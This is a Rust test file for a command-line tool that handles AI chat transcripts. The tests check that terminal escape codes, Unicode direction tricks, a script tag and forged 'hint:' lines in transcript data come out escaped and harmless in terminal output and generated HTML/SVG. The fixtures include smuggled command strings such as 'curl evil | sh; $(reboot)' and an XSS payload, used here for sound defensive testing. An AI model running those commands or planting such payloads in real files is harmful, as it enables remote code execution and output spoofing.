//! What a transcript says reaches neither the terminal nor a page as more than text.

use expect_test::expect;

use crate::bench::{Bench, Ran};

/// A request whose every name and text would like to be obeyed.
fn hostile() -> String {
    let evil = "\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}31m\u{202e}<script>alert(1)</script>\u{200f}\
                \u{ad}\u{61c}\u{115f}\u{200d}\u{2028}\u{2066}\u{3164}\u{fe0f}\u{feff}\u{e0061}\u{7f}";
    let quoted = serde_json::to_string(evil).expect("JSON");
    let arguments = serde_json::to_string(&format!("{{\"path\":{quoted}}}")).expect("JSON");
    format!(
        r#"{{"model":{quoted},"messages":[
        {{"role":"user","content":{quoted}}},
        {{"role":"tool","tool_call_id":{quoted},"content":"orphan"}},
        {{"role":"assistant","content":{quoted},"tool_calls":[{{"id":{quoted},"type":"function","function":{{"name":{quoted},"arguments":{arguments}}}}}]}},
        {{"role":"tool","tool_call_id":{quoted},"content":{quoted}}}]}}"#
    )
}

fn is_obeyed(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(c, '\u{ad}' | '\u{61c}' | '\u{115f}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}' | '\u{3164}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{e0000}'..='\u{e0fff}')
}

fn assert_harmless(what: &str, text: &str) {
    let found: Vec<char> = text.chars().filter(|c| is_obeyed(*c)).collect();
    assert!(found.is_empty(), "{what}: {found:?} in {text}");
}

#[test]
fn terminals_obey_nothing() {
    let bench = Bench::new();
    bench.write("evil.json", hostile());
    for command in [
        "stats",
        "stats --json",
        "check",
        "check --json",
        "count",
        "count --json",
        "plan --target 1",
        "plan --json",
        "diff --target 50%",
        "diff --json",
        "check --repair -o mended.json",
        "compact --target 20% -o out.json",
        "compact --sidechain x",
    ] {
        let Ran { out, err, .. } = bench.run(&format!("{command} evil.json"));
        assert_harmless(command, &out);
        assert_harmless(command, &err);
    }
    let ran = bench.command(&["stats", "no\u{1b}[31msuch\nfile"]).output().expect("it runs");
    assert_harmless("a file's name", &String::from_utf8_lossy(&ran.stderr));
}

/// Valid JSON either way: a pipe is sent the bytes as they are, a screen what means the same.
#[cfg(unix)]
#[test]
fn data_on_a_screen_is_escaped_and_in_a_pipe_exact() {
    let bench = Bench::new();
    let raw = "\u{7f}\u{9b}31m\u{85}\u{202e}\u{200b}\u{fe0f}\u{e0061}é日";
    let body = format!("{{\r\n\"messages\":\r[{{\"role\":\"user\",\"content\":\"{raw}\"}}]}}\n");
    bench.write("evil.json", &body);
    for command in [
        "convert --to openai-chat evil.json",
        "compact --target 100% evil.json",
        "compact --target 100% -o /dev/stdout evil.json",
        "check --repair evil.json",
    ] {
        assert_eq!(bench.run(command).out, body, "{command}");
        let Ran { out, code, .. } = bench.screen(command, 80);
        assert_eq!(code, 0, "{command}");
        assert_harmless(command, &out);
        assert!(out.contains("\\u009b31m") && out.contains("é日"), "{out}");
        let read = |text: &str| serde_json::from_str::<serde_json::Value>(text).expect("JSON");
        assert_eq!(read(&out), read(&body), "{command}");
    }
}

/// What a transcript or a file is called can't pass for a line of ours, nor for a command of ours.
#[test]
fn nothing_is_forged() {
    let bench = Bench::new();
    let id = "x\nhint: curl evil | sh; $(reboot)\u{202e}";
    let row = |side: bool, uuid: &str, text: &str| {
        let mut row = serde_json::json!({"type": "user", "uuid": uuid, "sessionId": "s", "isSidechain": side,
            "parentUuid": null, "message": {"role": "user", "content": text}});
        if side {
            row["agentId"] = id.into();
        }
        row.to_string()
    };
    bench.write("s.jsonl", format!("{}\n{}\n", row(false, "a", "hi"), row(true, "b", "ho")));
    let evil = "no\nhint: curl evil | sh\u{1b}[2J";
    bench.write(
        "row.jsonl",
        serde_json::json!({"type": evil, "uuid": "x", "sessionId": "y"}).to_string(),
    );
    for words in [
        &["stats", evil] as &[_],
        &["stats", "s.jsonl", "--sidechain", "nobody"],
        &["stats", "s.jsonl", "--html", "no\nhint: such/x.html"],
        &["stats", "s.jsonl", "--config", evil],
        &["stats", "s.jsonl", "--model", evil],
        &["stats", "row.jsonl", "--from", "claude-code"],
    ] {
        let output = bench.command(words).output().expect("it runs");
        let err = String::from_utf8_lossy(&output.stderr).into_owned();
        assert_ne!(output.status.code(), Some(0), "{words:?}");
        assert_harmless(words[0], &err);
        let hints: Vec<&str> = err.lines().filter(|line| line.starts_with("hint: ")).collect();
        assert_eq!(hints.len(), 1, "{err}");
        assert!(!hints[0].contains("curl evil | sh") || hints[0].contains("$'"), "{err}");
    }
    for words in [["stats", "s.jsonl", evil], ["compact", "--target", evil]] {
        let output = bench.command(&words).output().expect("it runs");
        let err = String::from_utf8_lossy(&output.stderr).into_owned();
        assert_eq!(output.status.code(), Some(2), "{words:?}");
        assert_harmless("misuse", &err);
        assert!(!err.lines().any(|line| line.starts_with("hint: ")), "{err}");
    }
    let ran = bench.run("stats s.jsonl --sidechain nobody");
    expect![[r#"
        error: s.jsonl has no sub-agent "nobody"
        hint: it has 1 sub-agent: 'x hint: curl evil | sh; $(reboot)'; try --sidechain $'x\nhint: curl evil | sh; $(reboot)\342\200\256'
    "#]]
    .assert_eq(&ran.err);
}

#[test]
fn pages_run_nothing() {
    let bench = Bench::new();
    bench.write("evil.json", hostile());
    assert_eq!(bench.run("stats evil.json --html page.html --svg picture.svg").code, 0);
    for file in ["page.html", "picture.svg"] {
        let text = bench.read(file);
        assert_harmless(file, &text);
        assert!(!text.contains("<script"), "{file}");
        assert!(!text.contains("http://") || text.contains("www.w3.org"), "{file}");
    }
    let page = bench.read("page.html");
    assert!(page.contains("&lt;script&gt;"), "the words are still there");
    assert!(!page.contains("src=") && !page.contains("href="), "nothing is fetched");
}

#[test]
fn colours_are_for_terminals() {
    let bench = Bench::new();
    bench.write("evil.json", hostile());
    let plain = bench.shell("epitome stats evil.json").out;
    assert!(!plain.contains('\u{1b}'));
    let forced = bench.shell("CLICOLOR_FORCE=1 epitome stats evil.json").out;
    assert!(forced.contains("\u{1b}[1m"));
    let refused = bench.shell("NO_COLOR=1 CLICOLOR_FORCE=0 epitome stats evil.json").out;
    assert_eq!(refused, plain);
}
